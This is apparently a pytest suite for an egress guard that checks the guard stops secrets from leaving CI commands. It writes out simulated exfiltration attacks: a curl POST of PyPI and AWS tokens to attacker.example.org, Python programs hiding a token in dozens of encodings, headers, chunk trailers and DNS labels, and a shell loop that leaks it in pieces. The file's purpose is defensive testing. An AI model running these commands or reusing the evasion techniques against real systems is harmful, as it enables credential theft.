"""A secret on its way out: to an attacker, and to a host that everybody allows. Judged by what the servers received."""

from __future__ import annotations

import textwrap

import pytest

from tests.attacks.programs import PYTHON
from tests.world import World
from tests.world.internet import API, ATTACKERS, EVIL

ALLOWED = ["--allow", "api.example.com", "--allow", "http://api.example.com", "--allow", "*.example.com"]
APIS = (API, "2001:db8::10")


def assert_unwritten(value: str, written: bytes) -> None:
    """No run of six characters of the value is anywhere in what was written: neither whole nor in part."""
    pieces = {value[start : start + 6].encode() for start in range(4, len(value) - 5)}  # beyond the "tok_" that all share
    assert [piece for piece in pieces if piece in written] == []


@pytest.mark.parametrize("host", ["attacker.example.org", "api.example.com"])
def test_ghostaction(world: World, secret: str, user: int | None, host: str) -> None:
    """One step posts the job's secrets with curl, as the workflow that was slipped into hundreds of repositories did."""
    attack = [
        "sh",
        "-c",
        f'curl -s -X POST -d "PYPI_TOKEN=$PYPI_TOKEN&AWS=$AWS_SECRET_ACCESS_KEY" https://{host}/; sleep 30',
    ]
    env = {"PYPI_TOKEN": secret, "AWS_SECRET_ACCESS_KEY": secret[::-1]}
    world.guard.bare([*attack[:2], attack[2].replace("; sleep 30", "")], env=env)
    assert secret.encode() in world.received(EVIL, *APIS)
    world.forget()
    outcome = world.guard.run(ALLOWED, attack, env=env, user=user, timeout=25)  # the command is ended, not waited for
    assert outcome.code == 91, outcome.stderr
    assert secret.encode()[:12] not in world.received(*ATTACKERS, *APIS)
    assert_unwritten(secret, outcome.everything_written())
    leaks = [one for one in outcome.incidents if one["kind"] == "exfiltration"]
    assert {one["secret"] for one in leaks} == {"PYPI_TOKEN", "AWS_SECRET_ACCESS_KEY"}
    assert {one["place"] for one in leaks} == {"body"}
    assert all(one["origin"]["process"]["exe"].endswith("/curl") for one in leaks)
    assert all(one["stopped"] for one in leaks)
    assert "PYPI_TOKEN" in outcome.stderr
    assert "rotate" in outcome.stderr


ENCODINGS = textwrap.dedent(
    """
    import base64, gzip, io, json, os, zlib, bz2, lzma, urllib.parse, zipfile, brotli, zstandard, codecs
    value = os.environ["DEPLOY_TOKEN"]
    raw = value.encode()
    around = b"header line\\n" + raw + b"\\ntrailing line"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("env.txt", around)
    forms = {
        "raw": raw, "in text": around, "form": urllib.parse.urlencode({"a": value}).encode(),
        "json": json.dumps({"env": {"A": value}}).encode(),
        "json with escapes": "".join(f"\\\\u{ord(c):04x}" for c in value).encode(),
        "percent": "".join(f"%{b:02X}" for b in raw).encode(), "percent twice": urllib.parse.quote("".join(f"%{b:02x}" for b in raw)).encode(),
        "base64 0": base64.b64encode(raw), "base64 1": base64.b64encode(b"x" + raw), "base64 2": base64.b64encode(b"xy" + raw),
        "base64url": base64.urlsafe_b64encode(around), "base64 twice": base64.b64encode(base64.b64encode(raw)),
        "base64 three times": base64.b64encode(base64.b64encode(base64.b64encode(raw))),
        "base64 in lines": base64.encodebytes(raw * 4), "base32": base64.b32encode(around), "hex": raw.hex().encode(),
        "hex upper": raw.hex().upper().encode(), "hex with colons": raw.hex(":").encode(), "hex dump": b" ".join(b"%02x" % b for b in raw),
        "gzip": gzip.compress(around), "zlib": zlib.compress(around), "bzip2": bz2.compress(around), "xz": lzma.compress(around),
        "zstd": zstandard.compress(around), "gzip in base64": base64.b64encode(gzip.compress(around)), "zip": archive.getvalue(),
        "gzip twice": gzip.compress(gzip.compress(around)), "reversed": raw[::-1], "utf-16": value.encode("utf-16"), "spaced": " ".join(value).encode(),
        "json of characters": json.dumps(list(value)).encode(), "one character a line": "\\n".join(value).encode(),
        "html entities": "".join(f"&#{b};" for b in raw).encode(), "javascript escapes": "".join(f"\\\\x{b:02x}" for b in raw).encode(),
    }
    coded = {"gzip": gzip.compress(around), "deflate": zlib.compress(around), "br": brotli.compress(around), "zstd": zstandard.compress(around)}
    """
)
SEND = textwrap.dedent(
    """
    import http.client, sys
    def send(name, method="POST", path="/", body=None, headers={}, host="api.example.com"):
        try:
            connection = http.client.HTTPSConnection(host, timeout=10)
            connection.request(method, path, body, headers)
            answer = connection.getresponse()
            print(name, "|", answer.status, flush=True)
        except (OSError, http.client.HTTPException) as problem:
            print(name, "|", type(problem).__name__, flush=True)
    """
)


def sent(outcome: object) -> dict[str, str]:
    return dict(line.split(" | ") for line in outcome.stdout.splitlines() if " | " in line)


def test_every_encoding_in_a_body_is_cut(world: World, secret: str) -> None:
    program = ENCODINGS + SEND + textwrap.dedent(
        """
        for name, data in forms.items():
            send(name, body=data)
        for name, data in coded.items():
            send("coded " + name, body=data, headers={"Content-Encoding": name})
        """
    )  # fmt: skip
    bare = world.guard.bare([PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    tried = sent(bare)
    assert set(tried.values()) == {"200"}
    assert len(tried) > 35
    world.forget()
    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    assert {name: status for name, status in sent(outcome).items() if status == "200"} == {}
    assert sent(outcome).keys() == tried.keys()
    assert [request for one in world.at(*APIS) for request in one.requests] == []
    assert_unwritten(secret, outcome.everything_written())


PLACES = SEND + textwrap.dedent(
    """
    import base64, os, socket, ssl
    value = os.environ["DEPLOY_TOKEN"]
    send("path", "GET", "/collect/" + value)
    send("query", "GET", "/?t=" + value)
    send("query in base64", "GET", "/?t=" + base64.urlsafe_b64encode(value.encode()).decode())
    send("header", "GET", headers={"X-Data": value})
    send("header in base64", "GET", headers={"X-Data": base64.b64encode(value.encode()).decode()})
    send("header name", "GET", headers={"X-" + value: "1"})
    send("authorization", "GET", headers={"Authorization": "Bearer " + value})
    send("cookie", "GET", headers={"Cookie": "a=b; t=" + value})
    send("user agent", "GET", headers={"User-Agent": value})
    send("chunked", body=iter([b"x" * 10, value[:20].encode(), value[20:].encode(), b"end"]))
    def raw(name, data, pieces=1):
        try:
            s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname="api.example.com")
            step = len(data) // pieces + 1
            for start in range(0, len(data), step):
                s.sendall(data[start:start + step])
            s.settimeout(10)
            print(name, "|", s.recv(100).split()[1].decode())
        except (OSError, IndexError) as problem:
            print(name, "|", type(problem).__name__, flush=True)
    trailer = "POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: X-T\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nX-T: %s\\r\\n\\r\\n"
    raw("trailer", (trailer % value).encode())
    extension = "POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1;x=%s\\r\\na\\r\\n0\\r\\n\\r\\n"
    raw("chunk extension", (extension % value).encode())
    plain = "POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: %d\\r\\n\\r\\n%s" % (len(value), value)
    raw("cut into single bytes", plain.encode(), pieces=10000)
    raw("method", ("%s / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n" % value.replace("_", "-")).encode())
    raw("many small chunks", ("POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + "".join("1\\r\\n%s\\r\\n" % c for c in value) + "0\\r\\n\\r\\n").encode())
    """
)


def test_every_place_of_a_request_is_watched(world: World, secret: str) -> None:
    bare = world.guard.bare([PYTHON, "-c", PLACES], env={"DEPLOY_TOKEN": secret})
    tried = sent(bare)
    assert "200" in tried["path"]
    assert len(tried) == 15, bare.stderr
    world.forget()
    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", PLACES], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    passed = {name for name, status in sent(outcome).items() if status == "200"}
    assert passed <= {"chunk extension", "method"}  # the guard writes chunks anew; a method is checked below
    assert secret.encode() not in world.received(*APIS)
    assert secret.replace("_", "-").encode() not in world.received(*APIS)
    assert_unwritten(secret, outcome.everything_written())
    places = {one["place"] for one in outcome.incidents}
    assert {"url:path", "url:query", "header:x-data", "header:authorization", "header:cookie", "body"} <= places


def test_names_carry_nothing(world: World, secret: str) -> None:
    """Below a wildcard that a rule allows, the labels of a name are a channel of their own."""
    program = textwrap.dedent(
        """
        import base64, os, socket, ssl
        raw = os.environ["DEPLOY_TOKEN"].encode()
        for label in (raw.hex()[:60] + "." + raw.hex()[60:], base64.b32encode(raw).decode().strip("=").lower(), raw.decode().lower()):
            try:
                socket.getaddrinfo(label + ".mirror.example.com", 443)
            except OSError as problem:
                print(problem)
            s = ssl.create_default_context()
            s.check_hostname = False
            try:
                s.wrap_socket(socket.create_connection(("api.example.com", 443)), server_hostname=label + ".mirror.example.com")
            except (OSError, ValueError) as problem:
                print(problem)
        """
    )
    world.guard.bare([PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert any(secret.encode().hex()[:40] in name for name, _kind in world.questions)
    world.forget()
    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91
    assert {name for name, _kind in world.questions} <= {"api.example.com"}
    assert {one["place"] for one in outcome.incidents if one["kind"] == "exfiltration"} >= {"dns"}
    written = outcome.everything_written().lower()
    assert secret.encode().hex()[8:20].encode() not in written


def test_a_bound_secret_goes_to_its_host_in_its_place_and_nowhere_else(world: World, secret: str) -> None:
    policy = world.directory / "bound.yml"
    policy.write_text(
        "version: 1\nallow: [api.example.com, mirror.example.com]\n"
        "secrets:\n  DEPLOY_TOKEN: { to: [api.example.com], in: [authorization] }\n"
    )
    options = ["--policy", str(policy), "--on-exfiltration", "fail"]
    program = SEND + textwrap.dedent(
        """
        import base64, os
        value = os.environ["DEPLOY_TOKEN"]
        basic = base64.b64encode(b"user:" + value.encode()).decode()
        send("bearer", "GET", headers={"Authorization": "Bearer " + value})
        send("basic", "GET", headers={"Authorization": "Basic " + basic})
        send("body", body=value)
        send("other header", "GET", headers={"X-Token": value})
        send("other host", "GET", headers={"Authorization": "Bearer " + value}, host="mirror.example.com")
        """
    )
    outcome = world.guard.run(options, [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91
    assert sent(outcome) == {"bearer": "200", "basic": "200", "body": "403", "other header": "403", "other host": "403"}
    assert_unwritten(secret, outcome.everything_written())


def test_a_bound_secret_alone_is_clean(world: World, secret: str) -> None:
    policy = world.directory / "bound.yml"
    policy.write_text(
        "version: 1\nallow: [api.example.com]\nsecrets:\n  DEPLOY_TOKEN: { to: [api.example.com], in: [authorization] }\n"
    )
    command = ["sh", "-c", 'curl -sS -H "Authorization: Bearer $DEPLOY_TOKEN" https://api.example.com/']
    outcome = world.guard.run(["--policy", str(policy)], command, env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 0, outcome.stderr
    assert "where it belongs" in outcome.stderr
    assert secret.encode() in world.received(*APIS)


def test_a_secret_never_goes_in_the_clear(world: World, secret: str) -> None:
    policy = world.directory / "clear.yml"
    policy.write_text(
        "version: 1\nallow: [{ host: api.example.com, protocol: http }]\n"
        "secrets:\n  DEPLOY_TOKEN: { to: [api.example.com], in: [authorization] }\n"
    )
    command = ["sh", "-c", 'curl -sS -H "Authorization: Bearer $DEPLOY_TOKEN" http://api.example.com/']
    outcome = world.guard.run(["--policy", str(policy)], command, env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91
    assert secret.encode() not in world.received(*APIS)


def test_opaque_connections_are_read_too(world: World, secret: str) -> None:
    program = textwrap.dedent(
        """
        import os, socket
        s = socket.create_connection(("db.example.com", 5432), timeout=5)
        s.sendall(b"hello\\n"); print(s.recv(100))
        value = os.environ["DEPLOY_TOKEN"].encode()
        s.sendall(b"select '" + value[:17])
        try:
            s.sendall(value[17:] + b"'\\n"); print(s.recv(100)); print(s.recv(100))
        except OSError as problem:
            print(problem)
        """
    )
    outcome = world.guard.run(
        ["--allow", "tcp://db.example.com:5432", "--on-exfiltration", "fail"],
        [PYTHON, "-c", program],
        env={"DEPLOY_TOKEN": secret},
    )
    assert outcome.code == 91, outcome.stderr
    received = world.received("203.0.113.11")
    assert b"hello" in received
    assert secret.encode()[:12] not in received


@pytest.mark.parametrize(("choice", "code", "ended"), [("kill", 91, True), ("fail", 91, False), ("warn", 7, False)])
def test_what_happens_then_is_a_choice_but_it_is_cut_in_every_case(
    world: World, secret: str, choice: str, code: int, ended: bool
) -> None:
    command = ["sh", "-c", 'curl -sS -d "$DEPLOY_TOKEN" https://api.example.com/ ; sleep 1; echo went on; exit 7']
    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", choice], command, env={"DEPLOY_TOKEN": secret})
    assert outcome.code == code, outcome.stderr
    assert ("went on" in outcome.stdout) is not ended
    assert [request for one in world.at(*APIS) for request in one.requests] == []


def test_audit_lets_it_go_and_says_so(world: World, secret: str) -> None:
    command = ["sh", "-c", 'curl -sS -d "$DEPLOY_TOKEN" https://attacker.example.org/ ; exit 5']
    outcome = world.guard.run(["--mode", "audit"], command, env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 5
    assert secret.encode() in world.received(EVIL)
    leak = next(one for one in outcome.incidents if one["kind"] == "exfiltration")
    assert not leak["stopped"]
    assert "THE VALUE LEFT" in outcome.stderr
    assert "rotate DEPLOY_TOKEN now" in outcome.stderr
    assert "host: attacker.example.org" not in outcome.suggested
    assert_unwritten(secret, outcome.everything_written())


def test_a_named_secret_must_be_there(world: World) -> None:
    outcome = world.guard.run(["--secret", "NOT_SET"], ["true"])
    assert outcome.code == 2
    assert "NOT_SET" in outcome.stderr


@pytest.mark.parametrize("how", ["raw", "base64", "hex"])
def test_a_secret_that_leaves_in_pieces_over_many_requests(world: World, secret: str, how: str) -> None:
    """To a host that is allowed; no request has the whole of it. Most of it must not have left when it is noticed."""
    write = {"raw": "cat", "base64": "base64 -w0", "hex": "od -An -tx1 | tr -d ' \\n'"}[how]
    attack = [
        "sh",
        "-c",
        f'printf %s "$DEPLOY_TOKEN" | {write} | fold -w 16 | (n=0; while read -r part || [ "$part" ]; do n=$((n+1)); '
        'curl -sS "https://api.example.com/page$n?q=$part" || exit 1; done)',
    ]
    outcome = world.guard.run(ALLOWED, attack, env={"DEPLOY_TOKEN": secret}, timeout=60)
    assert outcome.code == 91, outcome.stderr
    (leak,) = [one for one in outcome.incidents if one["kind"] == "exfiltration"]
    assert leak["secret"] == "DEPLOY_TOKEN"
    assert leak["encodings"] == ["pieces", how]
    assert world.at(*APIS), "its first pieces are like anything else"
    received = b"".join(one.path.encode() for connection in world.at(*APIS) for one in connection.requests)
    pieces = received.count(b"?q=")
    total = -(-{"raw": 40, "base64": 56, "hex": 80}[how] // 16)
    assert pieces < total


def test_the_same_token_in_its_place_again_and_again_is_no_secret_in_pieces(world: World, secret: str) -> None:
    policy = "version: 1\nallow: [api.example.com]\nsecrets:\n  DEPLOY_TOKEN: { to: [api.example.com] }\n"
    file = world.directory / "bound.yml"
    file.write_text(policy)
    use = ["sh", "-c", 'for n in 1 2 3; do curl -sS -u "x:$DEPLOY_TOKEN" "https://api.example.com/$n"; done']
    outcome = world.guard.run(["--policy", str(file)], use, env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 0, outcome.stderr
